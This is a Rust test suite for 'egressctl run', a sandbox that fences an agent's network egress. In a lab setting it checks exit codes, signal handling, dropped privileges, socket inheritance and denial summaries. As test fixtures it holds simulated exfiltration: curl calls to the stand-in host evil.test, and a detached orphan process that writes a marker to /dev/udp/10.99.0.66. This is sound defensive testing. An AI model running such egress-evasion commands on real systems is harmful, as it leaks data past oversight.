//! `egressctl run` as a program among programs.

use crate::{
    AGENT,
    attack::{stops, violations},
    fence,
    places::EVIL,
    policies::{COMMON, EMPTY},
    program::{self, Program},
    sniffer::mark,
};
use nix::sys::signal::Signal;
use std::{fs, io::Write};

#[test]
fn exit_codes_are_those_of_the_command_or_of_container_tools() {
    let fence = fence(COMMON);
    let agent = fence.agent(AGENT);
    for code in [0, 1, 7, 255] {
        assert_eq!(agent.run(&format!("exit {code}")).code, code);
    }
    assert_eq!(agent.run("kill -TERM $$").code, 128 + 15);
    let run = |arguments: &[&str]| program::run(agent.command(arguments));
    let missing = run(&["/nonexistent/program"]);
    assert_eq!(missing.code, 127, "a command that is not found: {missing:#?}");
    let folder = run(&["/etc"]);
    assert_eq!(folder.code, 126, "a command that cannot be run: {folder:#?}");
    let refused = program::run(agent.with(&["--policy", "/nonexistent.yaml"]).command(&["true"]));
    assert_eq!(refused.code, 125, "a policy that is not there: {refused:#?}");
}

#[test]
fn signals_are_forwarded() {
    let fence = fence(EMPTY);
    for (signal, name) in [(Signal::SIGTERM, "TERM"), (Signal::SIGINT, "INT"), (Signal::SIGHUP, "HUP")] {
        let script =
            format!("trap 'exit 42' {name}; echo ready; while read -r -t 1; [ $? -gt 128 ]; do :; done");
        // Whoever runs these tests in the background ignores SIGINT, and so would their shells.
        let agent = fence.agent(AGENT).spawn(&["env", "--default-signal", "bash", "-c", &script]);
        program::poll("the trap", || agent.stdout().contains("ready").then_some(()));
        agent.signal(signal);
        let outcome = agent.finish();
        assert_eq!(outcome.code, 42, "{name}: {outcome:#?}");
    }
}

#[test]
fn input_output_and_environment_are_the_commands_own() {
    let fence = fence(EMPTY);
    let script = "read -r line; echo \"$line $GREETING\"; echo complaint >&2";
    let mut command = fence.agent(AGENT).command(&["bash", "-c", script]);
    command.env("GREETING", "world").stdin(std::process::Stdio::piped());
    let mut agent = Program::start(command);
    writeln!(agent.stdin(), "hello").expect("the agent reads");
    let outcome = agent.finish();
    assert_eq!(outcome.stdout, "hello world\n");
    assert!(outcome.stderr.contains("complaint"), "{outcome:#?}");
}

#[test]
fn an_agent_starts_without_privileges_over_the_network_or_the_host() {
    let fence = fence(EMPTY);
    let outcome = fence.agent(AGENT).run("grep -E '^(Cap|NoNewPrivs)' /proc/self/status");
    for line in outcome.stdout.lines() {
        let (field, value) = line.split_once(':').expect("status has fields");
        let value = u64::from_str_radix(value.trim(), 16).expect("status has numbers");
        match field {
            "NoNewPrivs" => assert_eq!(value, 1, "{line}"),
            _ => assert_eq!(value & !OVER_FILES_AND_USERS, 0, "{line}"),
        }
    }
    assert_eq!(outcome.stdout.lines().count(), 6, "{outcome:#?}");
}

#[test]
fn a_socket_that_was_made_outside_is_not_inherited() {
    let fence = fence(COMMON);
    let mark = mark();
    let agent =
        fence.agent(AGENT).command(&["bash", "-c", &format!("echo {mark} >&7; echo {mark} > /dev/fd/7")]);
    let ((), frames) = violations(fence.lab(), &mark, || {
        program::run(with_inherited_socket(fence.lab(), &agent));
    });
    let carried = frames.iter().filter(|frame| frame.carries(mark.as_bytes())).count();
    assert_eq!(carried, 0, "a socket of the launcher leaked: {frames:#?}");
    let unfenced = fence.lab().command(&["bash", "-c", &format!("echo {mark} >&7")]);
    let (outcome, frames) =
        violations(fence.lab(), &mark, || program::run(with_inherited_socket(fence.lab(), &unfenced)));
    assert!(!frames.is_empty(), "the socket proves nothing: {outcome:#?}");
}

#[test]
fn a_descriptor_that_could_lead_out_is_no_input_of_an_agent() {
    let fence = fence(EMPTY);
    let agent = fence.agent(AGENT).command(&["true"]);
    let words = std::iter::once(agent.get_program()).chain(agent.get_args());
    let words: Vec<&str> = words.map(|word| word.to_str().expect("arguments are UTF-8")).collect();
    let behind =
        |shell: &str| program::run(fence.lab().command(&[&["bash", "-c", shell], &words[..]].concat()));
    for input in ["/dev/null", "/etc/passwd", "<(echo piped)"] {
        let outcome = behind(&format!("exec \"$0\" \"$@\" < {input}"));
        assert!(outcome.succeeded(), "{input}: {outcome:#?}");
    }
    for input in ["/dev/net/tun", "/etc", "/dev/udp/10.99.0.66/9000"] {
        let outcome = behind(&format!("exec \"$0\" \"$@\" < {input}"));
        assert_eq!(outcome.code, 125, "{input}: {outcome:#?}");
        assert!(outcome.stderr.contains("stdin"), "it says what to change: {outcome:#?}");
    }
}

#[test]
fn what_outlives_the_command_is_fenced_or_gone() {
    let fence = fence(COMMON);
    let mark = mark();
    let pid_file = fence.lab().folder().join("orphan");
    let orphan = format!(
        "setsid bash -c 'echo $$ > {0}.new; mv {0}.new {0}; trap \"\" HUP TERM; \
         for i in $(seq 20); do echo {mark} > /dev/udp/10.99.0.66/9000; read -t 0.1 <> <(:); done' \
         > /dev/null 2>&1 & while [ ! -e {0} ]; do :; done",
        pid_file.display()
    );
    let ((), frames) = violations(fence.lab(), &mark, || {
        let outcome = fence.agent(AGENT).run(&orphan);
        assert!(outcome.succeeded(), "{outcome:#?}");
        // It counts process ids as its own namespace does: its mark tells it apart.
        program::poll("the end of the orphan", || (!is_in_a_command_line(&mark)).then_some(()));
    });
    assert!(frames.is_empty(), "an orphan leaked: {frames:#?}");
}

fn is_in_a_command_line(word: &str) -> bool {
    let processes = fs::read_dir("/proc").expect("proc is mounted").flatten();
    let mut lines = processes.filter_map(|process| fs::read(process.path().join("cmdline")).ok());
    lines.any(|line| String::from_utf8_lossy(&line).contains(word))
}

#[test]
fn a_summary_says_what_was_denied_and_what_would_allow_it() {
    let fence = fence(COMMON);
    let script = "curl -s https://evil.test/; curl -s https://evil.test/; {trick} tcp 10.99.0.66 9000 x";
    let script = script.replace("{trick}", &format!("/usr/bin/python3 {}", crate::attack::TRICKS));
    let outcome = fence.agent(AGENT).run(&script);
    for text in ["evil.test", "curl", "- host: evil.test", "10.99.0.66", "10.99.0.66/32", "python"] {
        assert!(outcome.stderr.contains(text), "the summary should say {text}: {outcome:#?}");
    }
    let quiet = fence.agent(AGENT).run("curl -sSf https://ok.test/");
    assert_eq!(quiet.stderr, "", "nothing was denied, so there is nothing to say");
}

#[test]
fn a_policy_of_the_command_line_serves_that_agent_alone() {
    let fence = fence(EMPTY);
    let policy = fence.lab().folder().join("own.yaml");
    fs::write(&policy, COMMON).expect("the policy can be written");
    let flags = ["--policy", policy.to_str().expect("the path is UTF-8")];
    crate::attack::tells_apart(&fence.agent(AGENT).with(&flags), &["curl -sSf -m 5 https://{host}/"]);
    stops(&fence.agent("other"), EVIL, &["curl -sk -m 2 https://{mark}.{host}/"]);
    assert!(!fence.agent("other").run("curl -s -m 2 https://ok.test/").succeeded());
}

#[test]
fn without_a_daemon_one_is_started_for_the_life_of_the_command() {
    let mut fence = fence(COMMON);
    fence.shut_down();
    let policy = fence.lab().folder().join("own.yaml");
    fs::write(&policy, COMMON).expect("the policy can be written");
    let flags = ["--policy", policy.to_str().expect("the path is UTF-8")];
    crate::attack::tells_apart(&fence.agent(AGENT).with(&flags), &["curl -sSf -m 5 https://{host}/"]);
}

/// `command` behind a shell that holds, as descriptor 7, a UDP socket to a denied address.
fn with_inherited_socket(lab: &crate::lab::Lab, command: &std::process::Command) -> std::process::Command {
    let words = std::iter::once(command.get_program()).chain(command.get_args());
    let words: Vec<&str> = words.map(|word| word.to_str().expect("arguments are UTF-8")).collect();
    let outer = "exec 7<> /dev/udp/10.99.0.66/9000; exec \"$0\" \"$@\"";
    lab.command(&[&["bash", "-c", outer], &words[..]].concat())
}

/// CAP_CHOWN, DAC_OVERRIDE, FOWNER, FSETID, KILL, SETGID and SETUID: what package managers need.
const OVER_FILES_AND_USERS: u64 = 0b1111_1011;
